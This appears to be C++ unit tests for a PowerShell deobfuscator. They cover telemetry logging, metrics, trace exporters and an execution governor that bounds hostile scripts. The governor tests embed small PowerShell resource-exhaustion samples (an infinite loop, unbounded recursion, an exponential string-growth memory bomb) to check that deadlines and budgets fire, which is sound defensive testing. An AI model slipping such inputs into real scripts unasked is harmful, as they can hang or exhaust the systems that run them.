  ::close(fd);
  return out;
}

TEST(TelemetryLog, RecordsAreOneJsonObjectPerLine) {
  LogGuard guard;
  const std::string path =
      "/tmp/ideobf-logtest-" + std::to_string(::getpid()) + ".ndjson";
  const int fd = ::open(path.c_str(), O_CREAT | O_TRUNC | O_WRONLY, 0600);
  ASSERT_GE(fd, 0);
  set_log_fd(fd);
  set_log_rate_limit(0.0, 0.0);
  set_log_worker(2);
  set_log_level(LogLevel::Info);

  ASSERT_TRUE(log_enabled(LogLevel::Warn));
  ASSERT_FALSE(log_enabled(LogLevel::Debug));
  LogEvent(LogLevel::Warn, "server", "journal-write-failed")
      .field("slot", 3)
      .field("path", "a \"quoted\" name")
      .field("seconds", 0.5)
      .field_bool("fatal", false);
  ::close(fd);

  const std::string text = read_all(path);
  ::unlink(path.c_str());
  ASSERT_FALSE(text.empty());
  EXPECT_EQ(text.back(), '\n');
  EXPECT_EQ(text.find('\n'), text.size() - 1);  // exactly one record
  EXPECT_EQ(text.rfind("{\"ts\":", 0), 0u);     // ts leads every record
  EXPECT_NE(text.find("\"level\":\"warn\""), std::string::npos);
  EXPECT_NE(text.find("\"component\":\"server\""), std::string::npos);
  EXPECT_NE(text.find("\"event\":\"journal-write-failed\""),
            std::string::npos);
  EXPECT_NE(text.find("\"worker\":2"), std::string::npos);
  EXPECT_NE(text.find("\"slot\":3"), std::string::npos);
  EXPECT_NE(text.find("\"path\":\"a \\\"quoted\\\" name\""),
            std::string::npos);
  EXPECT_NE(text.find("\"fatal\":false"), std::string::npos);
}

TEST(TelemetryLog, BelowThresholdRecordsAreNeverEmitted) {
  LogGuard guard;
  const std::string path =
      "/tmp/ideobf-logtest-off-" + std::to_string(::getpid()) + ".ndjson";
  const int fd = ::open(path.c_str(), O_CREAT | O_TRUNC | O_WRONLY, 0600);
  ASSERT_GE(fd, 0);
  set_log_fd(fd);
  set_log_level(LogLevel::Error);
  LogEvent(LogLevel::Info, "server", "suppressed").field("k", 1);
  ::close(fd);
  EXPECT_TRUE(read_all(path).empty());
  ::unlink(path.c_str());
}

TEST(TelemetryLog, RateLimiterDropsAndCounts) {
  LogGuard guard;
  const std::string path =
      "/tmp/ideobf-logtest-rate-" + std::to_string(::getpid()) + ".ndjson";
  const int fd = ::open(path.c_str(), O_CREAT | O_TRUNC | O_WRONLY, 0600);
  ASSERT_GE(fd, 0);
  set_log_fd(fd);
  set_log_level(LogLevel::Info);
  set_log_rate_limit(/*per_second=*/1.0, /*burst=*/2.0);

  const std::uint64_t dropped0 = log_dropped_count();
  for (int i = 0; i < 50; ++i) {
    LogEvent(LogLevel::Info, "test", "burst").field("i", i);
  }
  ::close(fd);
  const std::string text = read_all(path);
  ::unlink(path.c_str());
  EXPECT_GT(log_dropped_count(), dropped0);
  // The burst got through; the flood did not.
  EXPECT_NE(text.find("\"event\":\"burst\""), std::string::npos);
  EXPECT_LT(text.size(), 50u * 40u);
}

TEST(TelemetryLog, ParseLogLevelGrammar) {
  LogLevel level = LogLevel::Off;
  EXPECT_TRUE(parse_log_level("debug", level));
  EXPECT_EQ(level, LogLevel::Debug);
  EXPECT_TRUE(parse_log_level("warn", level));
  EXPECT_EQ(level, LogLevel::Warn);
  EXPECT_TRUE(parse_log_level("off", level));
  EXPECT_EQ(level, LogLevel::Off);
  EXPECT_FALSE(parse_log_level("verbose", level));
  EXPECT_EQ(log_level_name(LogLevel::Error), "error");
}

}  // namespace
}  // namespace ideobf::telemetry
