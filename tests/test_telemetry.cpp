// Tests for the telemetry subsystem: sharded metrics (counter/gauge merge,
// histogram bucket boundaries), phase spans (nesting, self-time partition,
// balance counters, disabled cost), and both exporters (Prometheus text
// exposition golden + Chrome trace structure for a two-script batch).
//
// Telemetry state is process-global (enabled flag, registry, span stacks);
// every test that enables it does so through the RAII guard below so a
// failing assertion cannot leak an enabled flag into the next test.

#include <gtest/gtest.h>

#include <cstdint>
#include <string>
#include <thread>
#include <vector>

#include "core/batch.h"
#include "core/deobfuscator.h"
#include "telemetry/chrome_trace.h"
#include "telemetry/exposition.h"
#include "telemetry/metrics.h"
#include "telemetry/telemetry.h"

namespace ideobf::telemetry {
namespace {

/// Resets the process registry and enables recording for one test body.
struct TelemetryOn {
  TelemetryOn() {
    Telemetry::metrics().reset();
    Telemetry::enable();
  }
  ~TelemetryOn() {
    Telemetry::disable();
    Telemetry::set_trace_recorder(nullptr);
  }
};

// ---------------------------------------------------------------- metrics

TEST(TelemetryMetrics, DisabledRecordingIsANoOp) {
  Telemetry::disable();
  Counter& c = registry().counter("test_disabled_total");
  const std::uint64_t before = c.value();
  c.add();
  c.add(41);
  EXPECT_EQ(c.value(), before);
}

TEST(TelemetryMetrics, RegistryInternsByNameAndLabels) {
  Counter& a = registry().counter("test_intern_total", "kind=\"x\"");
  Counter& b = registry().counter("test_intern_total", "kind=\"x\"");
  Counter& c = registry().counter("test_intern_total", "kind=\"y\"");
  EXPECT_EQ(&a, &b);
  EXPECT_NE(&a, &c);
}

TEST(TelemetryMetrics, CounterMergesAcrossShards) {
  TelemetryOn on;
  Counter& c = registry().counter("test_shard_merge_total");
  // One writer thread per shard, each bound explicitly to its own slot the
  // way deobfuscate_batch binds pool workers. The merged value must be the
  // exact sum — relaxed per-shard cells, no lost updates.
  constexpr unsigned kThreads = kShardCount;
  constexpr std::uint64_t kPerThread = 10000;
  std::vector<std::thread> writers;
  writers.reserve(kThreads);
  for (unsigned t = 0; t < kThreads; ++t) {
    writers.emplace_back([&c, t] {
      set_current_shard(t);
      for (std::uint64_t i = 0; i < kPerThread; ++i) c.add();
    });
  }
  for (std::thread& w : writers) w.join();
  EXPECT_EQ(c.value(), kThreads * kPerThread);
  // Each bound thread wrote only its own shard.
  for (unsigned s = 0; s < kShardCount; ++s) {
    EXPECT_EQ(c.shard_value(s), kPerThread) << "shard " << s;
  }
}

TEST(TelemetryMetrics, GaugeSumsSignedDeltasAcrossShards) {
  TelemetryOn on;
  Gauge& g = registry().gauge("test_gauge");
  std::thread up([&g] {
    set_current_shard(1);
    for (int i = 0; i < 100; ++i) g.add(3);
  });
  std::thread down([&g] {
    set_current_shard(2);
    for (int i = 0; i < 100; ++i) g.sub(2);
  });
  up.join();
  down.join();
  EXPECT_EQ(g.value(), 100);
}

TEST(TelemetryMetrics, ResetZeroesValuesButKeepsHandles) {
  TelemetryOn on;
  Counter& c = registry().counter("test_reset_total");
  c.add(7);
  ASSERT_EQ(c.value(), 7u);
  registry().reset();
  EXPECT_EQ(c.value(), 0u);
  c.add(1);  // handle still live after reset
  EXPECT_EQ(c.value(), 1u);
}

// -------------------------------------------------------------- histogram

TEST(TelemetryHistogram, BucketIndexBoundariesAreInclusive) {
  const auto& bounds = Histogram::bounds_ns();
  ASSERT_EQ(bounds.size(), Histogram::kBucketCount - 1);
  EXPECT_EQ(Histogram::bucket_index(0), 0u);
  for (std::size_t i = 0; i < bounds.size(); ++i) {
    // An observation exactly on a bound lands in that bucket; one past it
    // spills into the next (the +Inf overflow for the last bound).
    EXPECT_EQ(Histogram::bucket_index(bounds[i]), i) << bounds[i];
    EXPECT_EQ(Histogram::bucket_index(bounds[i] + 1), i + 1) << bounds[i];
  }
  EXPECT_EQ(Histogram::bucket_index(UINT64_MAX),
            Histogram::kBucketCount - 1);
}

TEST(TelemetryHistogram, LadderIsStrictlyIncreasing) {
  const auto& bounds = Histogram::bounds_ns();
  EXPECT_EQ(bounds.front(), 1'000u);            // 1 µs
  EXPECT_EQ(bounds.back(), 10'000'000'000u);    // 10 s
  for (std::size_t i = 1; i < bounds.size(); ++i) {
    EXPECT_LT(bounds[i - 1], bounds[i]);
  }
}

TEST(TelemetryHistogram, ObservationsMergeAcrossShards) {
  TelemetryOn on;
  Histogram& h = registry().histogram("test_hist_seconds");
  std::thread a([&h] {
    set_current_shard(3);
    h.observe_ns(1'000);       // bucket 0 (== first bound)
    h.observe_ns(700'000);     // 0.7 ms
  });
  std::thread b([&h] {
    set_current_shard(4);
    h.observe_ns(700'000);
    h.observe_ns(20'000'000'000);  // 20 s -> +Inf overflow
  });
  a.join();
  b.join();
  EXPECT_EQ(h.count(), 4u);
  EXPECT_EQ(h.sum_ns(), 1'000u + 700'000u + 700'000u + 20'000'000'000u);
  EXPECT_EQ(h.bucket_value(0), 1u);
  EXPECT_EQ(h.bucket_value(Histogram::bucket_index(700'000)), 2u);
  EXPECT_EQ(h.bucket_value(Histogram::kBucketCount - 1), 1u);
}

// ------------------------------------------------------------------ spans

TEST(TelemetrySpan, DisabledSpanRecordsNothing) {
  Telemetry::disable();
  PipelineProfile profile;
  {
    ProfileScope scope(&profile);
    PhaseSpan outer(Phase::Pipeline);
    PhaseSpan inner(Phase::Recovery);
  }
  EXPECT_TRUE(profile.empty());
  EXPECT_EQ(profile.accounted_seconds(), 0.0);
}

TEST(TelemetrySpan, SelfTimePartitionsTheOuterSpan) {
  TelemetryOn on;
  PipelineProfile profile;
  {
    ProfileScope scope(&profile);
    PhaseSpan pipeline(Phase::Pipeline);
    {
      PhaseSpan recovery(Phase::Recovery);
      PhaseSpan piece(Phase::PieceExecution);  // nested two deep
    }
    PhaseSpan rename(Phase::Rename);
  }
  EXPECT_EQ(profile.stat(Phase::Pipeline).count, 1u);
  EXPECT_EQ(profile.stat(Phase::Recovery).count, 1u);
  EXPECT_EQ(profile.stat(Phase::PieceExecution).count, 1u);
  EXPECT_EQ(profile.stat(Phase::Rename).count, 1u);
  // A child's wall time is contained in its parent's.
  EXPECT_LE(profile.stat(Phase::PieceExecution).total_ns,
            profile.stat(Phase::Recovery).total_ns);
  EXPECT_LE(profile.stat(Phase::Recovery).total_ns,
            profile.stat(Phase::Pipeline).total_ns);
  // Self time excludes nested spans...
  EXPECT_LE(profile.stat(Phase::Recovery).self_ns,
            profile.stat(Phase::Recovery).total_ns);
  // ...and the per-phase self times partition the outer span exactly: the
  // subtraction telescopes, so the identity holds in integer nanoseconds.
  const std::uint64_t accounted =
      profile.stat(Phase::Pipeline).self_ns +
      profile.stat(Phase::Recovery).self_ns +
      profile.stat(Phase::PieceExecution).self_ns +
      profile.stat(Phase::Rename).self_ns;
  EXPECT_EQ(accounted, profile.stat(Phase::Pipeline).total_ns);
}

TEST(TelemetrySpan, BalanceCountersMatchAfterScopeExit) {
  TelemetryOn on;
  const std::uint64_t opened0 = spans_opened_counter().value();
  const std::uint64_t closed0 = spans_closed_counter().value();
  {
    PhaseSpan a(Phase::TokenPass);
    PhaseSpan b(Phase::Recovery, "detail");
  }
  EXPECT_EQ(spans_opened_counter().value() - opened0, 2u);
  EXPECT_EQ(spans_closed_counter().value() - closed0, 2u);
}

TEST(TelemetrySpan, SpanOpenedWhileEnabledStillClosesAfterDisable) {
  Telemetry::metrics().reset();
  Telemetry::enable();
  {
    PhaseSpan span(Phase::TokenPass);
    // Telemetry switched off mid-span (an operator toggling the endpoint):
    // the close must still be counted or the balance gate would see a leak.
    Telemetry::disable();
  }
  EXPECT_EQ(spans_opened_counter().value(), spans_closed_counter().value());
}

TEST(TelemetrySpan, ProfileScopesNestAndRestore) {
  TelemetryOn on;
  PipelineProfile outer_profile;
  PipelineProfile inner_profile;
  {
    ProfileScope outer(&outer_profile);
    { PhaseSpan span(Phase::Rename); }
    {
      ProfileScope inner(&inner_profile);
      PhaseSpan span(Phase::Reformat);
    }
    // Binding restored: this span lands in the outer profile again.
    { PhaseSpan span(Phase::Rename); }
  }
  EXPECT_EQ(outer_profile.stat(Phase::Rename).count, 2u);
  EXPECT_EQ(outer_profile.stat(Phase::Reformat).count, 0u);
  EXPECT_EQ(inner_profile.stat(Phase::Reformat).count, 1u);
  EXPECT_EQ(inner_profile.stat(Phase::Rename).count, 0u);
}

TEST(TelemetrySpan, ProfileMergeSumsStats) {
  PipelineProfile a;
  PipelineProfile b;
  a.phases[static_cast<std::size_t>(Phase::Parse)] = {2, 100, 150};
  b.phases[static_cast<std::size_t>(Phase::Parse)] = {3, 50, 70};
  a.merge(b);
  EXPECT_EQ(a.stat(Phase::Parse).count, 5u);
  EXPECT_EQ(a.stat(Phase::Parse).self_ns, 150u);
  EXPECT_EQ(a.stat(Phase::Parse).total_ns, 220u);
}

// -------------------------------------------------------------- exporters

TEST(TelemetryExport, PrometheusGoldenForHandBuiltRegistry) {
  TelemetryOn on;
  set_current_shard(0);
  // A private registry makes the exposition fully deterministic (the
  // process registry accumulates whatever other tests registered).
  MetricsRegistry reg;
  reg.counter("demo_requests_total", "kind=\"a\"").add(3);
  reg.counter("demo_requests_total", "kind=\"b\"").add(1);
  reg.counter("other_total").add(2);
  reg.gauge("demo_inflight").add(4);

  const std::string expected =
      "# TYPE demo_requests_total counter\n"
      "demo_requests_total{kind=\"a\"} 3\n"
      "demo_requests_total{kind=\"b\"} 1\n"
      "# TYPE other_total counter\n"
      "other_total 2\n"
      "# TYPE demo_inflight gauge\n"
      "demo_inflight 4\n";
  EXPECT_EQ(render_prometheus(reg), expected);
}

TEST(TelemetryExport, PrometheusHistogramIsCumulativeWithInf) {
  TelemetryOn on;
  set_current_shard(0);
  MetricsRegistry reg;
  Histogram& h = reg.histogram("demo_seconds", "phase=\"lex\"");
  h.observe_ns(1'000);            // first bucket
  h.observe_ns(2'000);            // second bucket (<= 2.5 µs)
  h.observe_ns(20'000'000'000);   // +Inf overflow

  const std::string out = render_prometheus(reg);
  EXPECT_NE(out.find("# TYPE demo_seconds histogram"), std::string::npos);
  EXPECT_NE(out.find("demo_seconds_bucket{phase=\"lex\",le=\"1e-06\"} 1\n"),
            std::string::npos);
  EXPECT_NE(out.find("demo_seconds_bucket{phase=\"lex\",le=\"2.5e-06\"} 2\n"),
            std::string::npos);
  // Every later finite bucket stays cumulative at 2; +Inf catches all 3.
  EXPECT_NE(out.find("demo_seconds_bucket{phase=\"lex\",le=\"10\"} 2\n"),
            std::string::npos);
  EXPECT_NE(out.find("demo_seconds_bucket{phase=\"lex\",le=\"+Inf\"} 3\n"),
            std::string::npos);
  EXPECT_NE(out.find("demo_seconds_sum{phase=\"lex\"} 20.000003\n"),
            std::string::npos);
  EXPECT_NE(out.find("demo_seconds_count{phase=\"lex\"} 3\n"),
            std::string::npos);
}

TEST(TelemetryExport, TraceRecorderCapsAndReportsTruncation) {
  TelemetryOn on;
  set_current_shard(0);
  TraceRecorder rec(4);
  for (int i = 0; i < 6; ++i) {
    rec.record(Phase::Lex, {}, static_cast<std::uint64_t>(i) * 100, 50);
  }
  EXPECT_EQ(rec.event_count(), 4u);
  EXPECT_EQ(rec.dropped(), 2u);
  EXPECT_TRUE(rec.truncated());
  const std::string json = rec.render();
  EXPECT_NE(json.find("\"truncated\":true"), std::string::npos);
  EXPECT_NE(json.find("\"droppedEvents\":2"), std::string::npos);
  rec.clear();
  EXPECT_EQ(rec.event_count(), 0u);
  EXPECT_FALSE(rec.truncated());
}

/// Two-script batch through the real pipeline with both exporters armed:
/// the structural "golden" for what a CLI --metrics/--trace-out run emits.
TEST(TelemetryExport, TwoScriptBatchFeedsBothExporters) {
  TelemetryOn on;
  TraceRecorder recorder;
  Telemetry::set_trace_recorder(&recorder);

  const std::vector<std::string> scripts = {
      "IeX ('Write-Output '+\"'one'\")",
      "$a = 'two'\nWr`ite-Output $a",
  };
  InvokeDeobfuscator deobf;
  BatchReport report;
  Options options;
  options.threads = 2;
  const auto results = deobfuscate_batch(deobf, scripts, report, options);
  Telemetry::set_trace_recorder(nullptr);
  ASSERT_EQ(results.size(), 2u);
  EXPECT_EQ(report.failed(), 0);

  // The aggregated batch profile saw one Pipeline span per script.
  EXPECT_EQ(report.profile.stat(Phase::Pipeline).count, 2u);
  EXPECT_GE(report.profile.stat(Phase::TokenPass).count, 2u);

  // Chrome trace: thread-name metadata, complete events, no truncation.
  const std::string trace = recorder.render();
  EXPECT_FALSE(recorder.truncated());
  EXPECT_NE(trace.find("\"traceEvents\":["), std::string::npos);
  EXPECT_NE(trace.find("\"ph\":\"X\""), std::string::npos);
  EXPECT_NE(trace.find("\"ph\":\"M\""), std::string::npos);
  EXPECT_NE(trace.find("thread_name"), std::string::npos);
  EXPECT_NE(trace.find("\"name\":\"pipeline\""), std::string::npos);
  EXPECT_NE(trace.find("\"truncated\":false"), std::string::npos);
  EXPECT_EQ(recorder.event_count(),
            spans_closed_counter().value());

  // Prometheus exposition of the same run: phase histogram populated and
  // the span-balance counters visible and equal.
  const std::string metrics = render_prometheus(registry());
  EXPECT_NE(metrics.find("# TYPE ideobf_phase_seconds histogram"),
            std::string::npos);
  EXPECT_NE(metrics.find("ideobf_phase_seconds_count{phase=\"pipeline\"} 2"),
            std::string::npos);
  EXPECT_NE(metrics.find("ideobf_batch_item_total 2"), std::string::npos);
  EXPECT_EQ(spans_opened_counter().value(), spans_closed_counter().value());

  // Registry reconciliation, the invariant the bench gate also asserts:
  // parse-cache lookups == hits + misses + bypasses.
  auto& reg = registry();
  const std::uint64_t lookups =
      reg.counter("ideobf_parse_cache_lookup_total").value();
  const std::uint64_t hits =
      reg.counter("ideobf_parse_cache_hit_total").value();
  const std::uint64_t misses =
      reg.counter("ideobf_parse_cache_miss_total").value();
  const std::uint64_t bypasses =
      reg.counter("ideobf_parse_cache_bypass_total").value();
  EXPECT_EQ(lookups, hits + misses + bypasses);
  EXPECT_GT(lookups, 0u);
}

}  // namespace
}  // namespace ideobf::telemetry
