// The execution governor: deadlines, budgets, cancellation, the degradation
// ladder, and the failure taxonomy — exercised with the hostile corpus the
// governor exists for (infinite loops, unbounded recursion, allocation
// bombs) plus the regression that limit errors cannot be swallowed by
// script-level try/catch.

#include <gtest/gtest.h>

#include <chrono>
#include <thread>

#include "core/batch.h"
#include "core/deobfuscator.h"
#include "psinterp/interpreter.h"
#include "psvalue/budget.h"

namespace {

using namespace ideobf;

// An infinite loop inside a recoverable piece. Hits the per-piece step
// limit in milliseconds under default options; with the step limit pushed
// out of reach it runs until a wall deadline fires.
constexpr const char* kInfiniteLoop = "$a = $( while ($true) { 1 } )\n$a\n";

// Runtime-unbounded recursion through a scriptblock value. Textually flat,
// so it reaches the interpreter rather than any nesting-depth parser check.
constexpr const char* kDeepRecursion = "$f = { & $f }\n$z = & $f\n";

// Exponential string growth (2^40 bytes if nothing intervenes) inside a
// single recoverable subexpression, so the whole loop runs as one piece.
constexpr const char* kMemoryBomb =
    "$a = $( $x = 'AB'; for ($i = 0; $i -lt 40; $i++) { $x = $x + $x }; $x )\n"
    "$a\n";

// A benign sample of the paper's bread-and-butter obfuscation.
constexpr const char* kBenign =
    "$x = 'Wri' + 'te-Out' + 'put'\n& $x ('he' + 'llo')\n";

TEST(Budget, DeadlineFires) {
  ps::Budget budget(ps::Budget::Limits{0.05, 0, {}});
  const auto start = std::chrono::steady_clock::now();
  EXPECT_THROW(
      {
        while (true) budget.checkpoint();
      },
      ps::BudgetError);
  const double elapsed =
      std::chrono::duration<double>(std::chrono::steady_clock::now() - start)
          .count();
  EXPECT_LT(elapsed, 1.0);
}

TEST(Budget, CancellationWinsImmediately) {
  auto token = ps::CancellationToken::make();
  ps::Budget budget(ps::Budget::Limits{100.0, 0, token});
  budget.checkpoint();  // fine while not cancelled
  token.request_cancel();
  try {
    budget.checkpoint();
    FAIL() << "expected BudgetError";
  } catch (const ps::BudgetError& e) {
    EXPECT_EQ(e.kind, ps::FailureKind::Cancelled);
  }
}

TEST(Budget, MemoryBudgetIsCumulative) {
  ps::Budget budget(ps::Budget::Limits{0.0, 1000, {}});
  budget.charge_bytes(400);
  budget.charge_bytes(400);
  try {
    budget.charge_bytes(400);
    FAIL() << "expected BudgetError";
  } catch (const ps::BudgetError& e) {
    EXPECT_EQ(e.kind, ps::FailureKind::MemoryBudget);
  }
}

TEST(Budget, InactiveBudgetNeverThrows) {
  ps::Budget budget;
  EXPECT_FALSE(budget.active());
  for (int i = 0; i < 10000; ++i) budget.checkpoint();
  budget.charge_bytes(std::size_t{1} << 40);
  budget.force_checkpoint();
}

// --- limit errors must not be swallowed by script-level try/catch --------

TEST(LimitEscape, StepLimitEscapesTryCatch) {
  ps::InterpreterOptions opts;
  opts.max_steps = 5000;
  ps::Interpreter interp(opts);
  try {
    interp.evaluate_script("try { while ($true) { 1 } } catch { 'caught' }");
    FAIL() << "expected LimitError";
  } catch (const ps::LimitError& e) {
    EXPECT_EQ(e.kind, ps::FailureKind::StepLimit);
  }
}

TEST(LimitEscape, BudgetTimeoutEscapesTryCatch) {
  ps::Budget budget(ps::Budget::Limits{0.05, 0, {}});
  ps::InterpreterOptions opts;
  opts.max_steps = std::size_t{1} << 40;
  opts.budget = &budget;
  ps::Interpreter interp(opts);
  try {
    interp.evaluate_script("try { while ($true) { 1 } } catch { 'caught' }");
    FAIL() << "expected BudgetError";
  } catch (const ps::BudgetError& e) {
    EXPECT_EQ(e.kind, ps::FailureKind::Timeout);
  }
}

TEST(LimitEscape, StringSizeLimitEscapesTryCatch) {
  ps::Interpreter interp;
  try {
    interp.evaluate_script(
        "try { $a = 'A' * 999999999 } catch { 'caught' }");
    FAIL() << "expected LimitError";
  } catch (const ps::LimitError& e) {
    EXPECT_EQ(e.kind, ps::FailureKind::MemoryBudget);
  }
}

TEST(LimitEscape, PipelineReportsStepLimitDespiteTryCatch) {
  const InvokeDeobfuscator deobf;
  DeobfuscationReport report;
  const std::string out = deobf.deobfuscate(
      "$a = $( try { while ($true) { 1 } } catch { 'caught' } )\n$a\n",
      report);
  EXPECT_EQ(report.failure, ps::FailureKind::StepLimit);
  EXPECT_EQ(out.find("'caught'\n$a"), std::string::npos);
}

// --- ungoverned classification -------------------------------------------

TEST(Classification, UngovernedStepLimit) {
  const InvokeDeobfuscator deobf;
  DeobfuscationReport report;
  (void)deobf.deobfuscate(kInfiniteLoop, report);
  EXPECT_EQ(report.failure, ps::FailureKind::StepLimit);
  EXPECT_EQ(report.degradation_rung, 0);
  EXPECT_GT(report.recovery.pieces_failed, 0);
}

TEST(Classification, UngovernedDepthLimit) {
  const InvokeDeobfuscator deobf;
  DeobfuscationReport report;
  (void)deobf.deobfuscate(kDeepRecursion, report);
  EXPECT_EQ(report.failure, ps::FailureKind::DepthLimit);
}

TEST(Classification, UngovernedMemoryLimit) {
  const InvokeDeobfuscator deobf;
  DeobfuscationReport report;
  (void)deobf.deobfuscate("$a = 'A' * 999999999\n", report);
  EXPECT_EQ(report.failure, ps::FailureKind::MemoryBudget);
}

TEST(Classification, UngovernedParseError) {
  const InvokeDeobfuscator deobf;
  DeobfuscationReport report;
  const std::string bad = "if (((";
  EXPECT_EQ(deobf.deobfuscate(bad, report), bad);
  EXPECT_EQ(report.failure, ps::FailureKind::ParseError);
}

TEST(Classification, BenignIsCleanAndByteIdenticalUnderGovernor) {
  const InvokeDeobfuscator deobf;
  DeobfuscationReport ungoverned;
  const std::string plain = deobf.deobfuscate(kBenign, ungoverned);
  EXPECT_EQ(ungoverned.failure, ps::FailureKind::None);
  EXPECT_EQ(ungoverned.degradation_rung, 0);

  Options::Limits governor;
  governor.deadline_seconds = 30.0;
  governor.memory_budget_bytes = 64u << 20;
  DeobfuscationReport governed;
  EXPECT_EQ(deobf.deobfuscate(kBenign, governed, governor), plain);
  EXPECT_EQ(governed.failure, ps::FailureKind::None);
  EXPECT_EQ(governed.degradation_rung, 0);
  EXPECT_EQ(governed.attempts, 1);
}

// --- the degradation ladder ----------------------------------------------

TEST(Governor, TimeoutDegradesAndStillServes) {
  Options opts;
  opts.limits.max_steps_per_piece = std::size_t{1} << 40;  // only the clock can stop it
  const InvokeDeobfuscator deobf(opts);
  Options::Limits governor;
  governor.deadline_seconds = 0.2;
  DeobfuscationReport report;
  const auto start = std::chrono::steady_clock::now();
  const std::string out = deobf.deobfuscate(kInfiniteLoop, report, governor);
  const double elapsed =
      std::chrono::duration<double>(std::chrono::steady_clock::now() - start)
          .count();
  EXPECT_EQ(report.failure, ps::FailureKind::Timeout);
  EXPECT_GE(report.degradation_rung, 1);
  EXPECT_GT(report.attempts, 1);
  EXPECT_FALSE(out.empty());
  // Ladder worst case is 1.75x the deadline plus scheduling noise.
  EXPECT_LT(elapsed, governor.deadline_seconds * 2.0 + 1.0);
}

TEST(Governor, MemoryBombDegradesToStaticPasses) {
  const InvokeDeobfuscator deobf;
  Options::Limits governor;
  governor.deadline_seconds = 10.0;
  governor.memory_budget_bytes = 1u << 20;
  DeobfuscationReport report;
  const std::string out = deobf.deobfuscate(kMemoryBomb, report, governor);
  EXPECT_EQ(report.failure, ps::FailureKind::MemoryBudget);
  EXPECT_GE(report.degradation_rung, 1);
  EXPECT_FALSE(out.empty());
}

TEST(Governor, DegradeOffServesPassthroughOnFirstFailure) {
  const InvokeDeobfuscator deobf;
  Options::Limits governor;
  governor.deadline_seconds = 10.0;
  governor.memory_budget_bytes = 1u << 20;
  governor.degrade = false;
  DeobfuscationReport report;
  EXPECT_EQ(deobf.deobfuscate(kMemoryBomb, report, governor), kMemoryBomb);
  EXPECT_EQ(report.degradation_rung, 3);
  EXPECT_EQ(report.attempts, 1);
  EXPECT_EQ(report.failure, ps::FailureKind::MemoryBudget);
}

TEST(Governor, PreCancelledServesClassifiedPassthrough) {
  const InvokeDeobfuscator deobf;
  Options::Limits governor;
  governor.deadline_seconds = 10.0;
  governor.cancel = ps::CancellationToken::make();
  governor.cancel.request_cancel();
  DeobfuscationReport report;
  EXPECT_EQ(deobf.deobfuscate(kBenign, report, governor), kBenign);
  EXPECT_EQ(report.failure, ps::FailureKind::Cancelled);
  EXPECT_EQ(report.degradation_rung, 3);
  EXPECT_EQ(report.attempts, 0);
}

TEST(Governor, MidRunCancellationAborts) {
  Options opts;
  opts.limits.max_steps_per_piece = std::size_t{1} << 40;
  const InvokeDeobfuscator deobf(opts);
  Options::Limits governor;
  governor.deadline_seconds = 60.0;  // cancellation must win, not the clock
  governor.cancel = ps::CancellationToken::make();
  std::thread canceller([cancel = governor.cancel]() {
    std::this_thread::sleep_for(std::chrono::milliseconds(100));
    cancel.request_cancel();
  });
  DeobfuscationReport report;
  const auto start = std::chrono::steady_clock::now();
  EXPECT_EQ(deobf.deobfuscate(kInfiniteLoop, report, governor), kInfiniteLoop);
  const double elapsed =
      std::chrono::duration<double>(std::chrono::steady_clock::now() - start)
          .count();
  canceller.join();
  EXPECT_EQ(report.failure, ps::FailureKind::Cancelled);
  EXPECT_EQ(report.degradation_rung, 3);
  EXPECT_LT(elapsed, 10.0);
}

// --- the batch under hostile load ----------------------------------------

TEST(GovernedBatch, HostileCorpusClassifiedServedAndBounded) {
  Options opts;
  opts.limits.max_steps_per_piece = std::size_t{1} << 40;
  const InvokeDeobfuscator deobf(opts);

  const std::vector<std::string> scripts = {
      kBenign, kInfiniteLoop, kMemoryBomb, kDeepRecursion, kBenign,
  };
  Options options;
  options.threads = 2;
  options.limits.deadline_seconds = 0.3;
  options.limits.memory_budget_bytes = 4u << 20;
  BatchReport report;
  const auto out = deobfuscate_batch(deobf, scripts, report, options);

  ASSERT_EQ(out.size(), scripts.size());
  ASSERT_EQ(report.items.size(), scripts.size());

  EXPECT_TRUE(report.items[0].ok);
  EXPECT_EQ(report.items[0].failure, ps::FailureKind::None);
  EXPECT_EQ(report.items[0].degradation_rung, 0);

  EXPECT_EQ(report.items[1].failure, ps::FailureKind::Timeout);
  EXPECT_GE(report.items[1].degradation_rung, 1);

  EXPECT_EQ(report.items[2].failure, ps::FailureKind::MemoryBudget);
  EXPECT_GE(report.items[2].degradation_rung, 1);

  // The deep-recursion sample is served (unrecoverable pieces stay as-is,
  // which is not an item failure), with the per-piece classification kept
  // as diagnostic detail.
  EXPECT_TRUE(report.items[3].ok);
  EXPECT_EQ(report.items[3].worst_piece_failure, ps::FailureKind::DepthLimit);

  EXPECT_TRUE(report.items[4].ok);
  EXPECT_EQ(out[4], out[0]);  // workers share nothing item-visible

  // No item may blow materially past the ladder's 1.75x-deadline envelope.
  for (const BatchItem& item : report.items) {
    EXPECT_LT(item.seconds, options.limits.deadline_seconds * 3.0 + 1.0);
  }
  EXPECT_GE(report.failures(), 2);
  EXPECT_GE(report.degraded(), 2);
  // failures() is exactly failed() plus degraded-but-served items.
  int expected = 0;
  for (const BatchItem& item : report.items) {
    if (!item.ok || item.degradation_rung > 0) ++expected;
  }
  EXPECT_EQ(report.failures(), expected);
}

TEST(GovernedBatch, BatchWideCancellationDrainsQueue) {
  Options opts;
  opts.limits.max_steps_per_piece = std::size_t{1} << 40;
  const InvokeDeobfuscator deobf(opts);
  const std::vector<std::string> scripts(8, kInfiniteLoop);
  Options options;
  options.threads = 2;
  options.limits.deadline_seconds = 30.0;
  options.limits.cancel = ps::CancellationToken::make();
  std::thread canceller([cancel = options.limits.cancel]() {
    std::this_thread::sleep_for(std::chrono::milliseconds(150));
    cancel.request_cancel();
  });
  BatchReport report;
  const auto start = std::chrono::steady_clock::now();
  const auto out = deobfuscate_batch(deobf, scripts, report, options);
  const double elapsed =
      std::chrono::duration<double>(std::chrono::steady_clock::now() - start)
          .count();
  canceller.join();
  ASSERT_EQ(out.size(), scripts.size());
  EXPECT_LT(elapsed, 15.0);
  for (std::size_t i = 0; i < scripts.size(); ++i) {
    EXPECT_EQ(out[i], scripts[i]);
    EXPECT_EQ(report.items[i].failure, ps::FailureKind::Cancelled) << i;
  }
}

TEST(GovernedBatch, UngovernedBatchMatchesGovernedOnBenignCorpus) {
  const InvokeDeobfuscator deobf;
  const std::vector<std::string> scripts(4, kBenign);
  BatchReport plain_report;
  const auto plain = deobfuscate_batch(deobf, scripts, plain_report, 2u);
  Options options;
  options.threads = 2;
  options.limits.deadline_seconds = 30.0;
  BatchReport governed_report;
  const auto governed = deobfuscate_batch(deobf, scripts, governed_report, options);
  EXPECT_EQ(plain, governed);
  EXPECT_EQ(governed_report.failures(), 0);
